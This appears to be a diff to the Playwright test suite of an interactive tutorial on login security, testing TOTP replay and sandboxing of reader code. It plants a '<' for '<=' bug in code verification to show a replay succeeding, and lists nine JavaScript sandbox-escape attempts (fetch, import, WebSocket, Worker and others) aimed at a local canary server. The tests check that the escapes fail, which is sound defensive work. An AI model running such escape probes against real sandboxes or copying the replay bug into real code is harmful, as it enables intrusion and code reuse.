@@ -1,6 +1,9 @@
 """Every step in the page, from Start to logged in; thief, clocks and server."""
 
 import re
+from http.server import BaseHTTPRequestHandler
+from http.server import ThreadingHTTPServer
+from threading import Thread
 
 import pytest
 
@@ -165,23 +168,137 @@ def test_a_phone_whose_clock_is_wrong_opens_nothing(page):
 
 def test_stop_ends_an_endless_loop_at_once(page):
     page.start("01")
-    page.tab.evaluate("window.began = performance.now()")
-    edit(page, "app/pages.py", "import ", "while True: pass\nimport ")
+    page.edit("app/pages.py", "import ", "while True: pass\nimport ")
     page.press("Restart with it")
     page.press("Stop").status("Stopped")
     assert page.tab.locator("iframe").count() == 1
     page.start("01").sees("Log in")
 
 
-def edit(page, file, old, new):
-    """Change a file in the editor."""
-    page.part("file").select_option(file)
-    page.tab.evaluate(
-        """([old, fresh]) => {
-          const view = document.querySelector('.cm-content').cmTile?.view
-            ?? document.querySelector('.cm-content').cmView.view;
-          const from = view.state.doc.toString().indexOf(old);
-          view.dispatch({changes: {from, to: from + old.length, insert: fresh}});
-        }""",
-        [old, new],
-    )
+def test_the_mistake_in_the_editor_lets_the_replay_in_until_it_is_undone(page):
+    page.start("02")
+    right = page.test("Attack 12: Use a code twice")
+    page.edit("app/second_factor.py", "if time_step <= ", "if time_step < ")
+    page.press("Restart with it").status("with your change")
+    wrong = page.test("Attack 12: Use a code twice")
+    assert ", 0 failed" in right
+    assert ", 0 failed" not in wrong
+    failed = page.part("results").locator(".live-failed").first
+    assert "02-totp-verify/#" in failed.locator("a").get_attribute("href")
+
+    log_in_with_password(page).sees("code")
+    code = page.code()
+    page.type_code().sees("Welcome, admin").press_in_app("Log out")
+    log_in_with_password(page).sees("code").send(code=code).sees("Welcome, admin")
+    page.press("Undo all changes").status("undone")
+    assert ", 0 failed" in page.test("Attack 12: Use a code twice")
+
+
+def test_a_mistake_of_the_list_is_made_and_found(page):
+    page.start("02")
+    mistakes = page.part("mistake").locator("option").all_inner_texts()
+    [mistake] = [text for text in mistakes if "< in the place of <=" in text]
+    page.part("mistake").select_option(label=mistake)
+    page.status("The mistake is made")
+    page.part("prediction").select_option("failed")
+    verdict = page.test()
+    assert ", 0 failed" not in verdict
+    assert "You were right." in verdict
+
+
+ATTEMPTS = 9
+ESCAPES = """
+import js
+from pyodide.code import run_js
+
+async def attempt():
+    for code in (
+        "fetch('CANARY/fetch')",
+        "WorkerGlobalScope.prototype.fetch.call(self, 'CANARY/own')",
+        "new (Object.getPrototypeOf(async () => {}).constructor)("
+        "'return await import(`CANARY/import.js`)')()",
+        "import('CANARY/import2.js')",
+        "new Promise((done, no) => { const w = new WebSocket('ws:CANARY/socket');"
+        " w.onopen = done; w.onerror = () => no(new Error('no socket')); })",
+        "new Promise((done, no) => { const r = indexedDB.open('x');"
+        " r.onsuccess = done; r.onerror = () => no(r.error); })",
+        "caches.open('x')",
+        "new Promise((done, no) => { const r = new XMLHttpRequest();"
+        " r.onload = done; r.onerror = () => no(new Error('no request'));"
+        " r.open('GET', 'CANARY/request'); r.send(); })",
+        "new Promise((done, no) => { const w = new Worker('CANARY/worker.js');"
+        " w.onmessage = done; w.onerror = () => no(new Error('no worker')); })",
+    ):
+        try:
+            await run_js(code)
+            print("ESCAPED", code)
+        except BaseException as error:
+            print("held", code[:30])
+    print("ALL TRIED")
+
+import asyncio
+asyncio.ensure_future(attempt())
+"""
+
+
+class Canary(BaseHTTPRequestHandler):
+    """Answers whoever asks, from wherever, and remembers it."""
+
+    asked = []
+
+    def do_GET(self):  # noqa: N802  the server calls it so
+        """Answer with a script that any page may load."""
+        self.asked.append(self.path)
+        self.send_response(200)
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.send_header("Content-Type", "text/javascript")
+        self.end_headers()
+
+    def log_message(self, *values):
+        """Say nothing."""
+
+
+@pytest.fixture
+def canary():
+    """Return another origin, which nobody shall reach."""
+    Canary.asked.clear()
+    with ThreadingHTTPServer(("127.0.0.1", 0), Canary) as server:
+        Thread(target=server.serve_forever, daemon=True).start()
+        yield server
+        server.shutdown()
+
+
+def test_code_of_a_reader_reaches_no_host_and_no_storage(page, canary):
+    code = ESCAPES.replace("ws:CANARY", f"ws://127.0.0.1:{canary.server_port}")
+    code = code.replace("CANARY", f"http://127.0.0.1:{canary.server_port}")
+    page.start("01").edit("app/pages.py", "from ", f"{code}\nfrom ")
+    page.press("Restart with it")
+    page.part("log").filter(has_text="ALL TRIED").wait_for()
+
+    said = page.part("log").inner_text()
+    assert said.count("held") == ATTEMPTS
+    assert "ESCAPED" not in said
+    assert Canary.asked == []
+    page.screen.requests.clear()  # the browser reports what it did not send as well
+
+
+def test_a_button_of_a_chapter_opens_its_question_beside_the_text(page):
+    page.screen.open("/02-totp-verify/")
+    page.tab.get_by_role("link", name="Try it: use a code twice").click()
+    panel = page.tab.locator(".live-panel")
+    inside = page.tab.frame_locator(".live-panel iframe")
+    inside.get_by_text("A thief has your password and filmed your code").wait_for()
+    assert inside.locator("[data-live=step]").input_value() == "02"
+    inside.get_by_label("No, a code works once").check()
+    inside.get_by_text("That's right.").wait_for()
+    panel.get_by_role("button", name="Close").click()
+    assert not panel.is_visible()
+
+
+def test_without_javascript_the_command_is_named(browser, address):
+    need_packs()
+    with browser.new_context(java_script_enabled=False) as context:
+        screen = Screen(None, address, context)
+        screen.open("/try-it/")
+        assert "python3 tutorial.py run" in screen.find("[data-live=off]").inner_text()
+        assert not screen.find("[data-live=live]").is_visible()
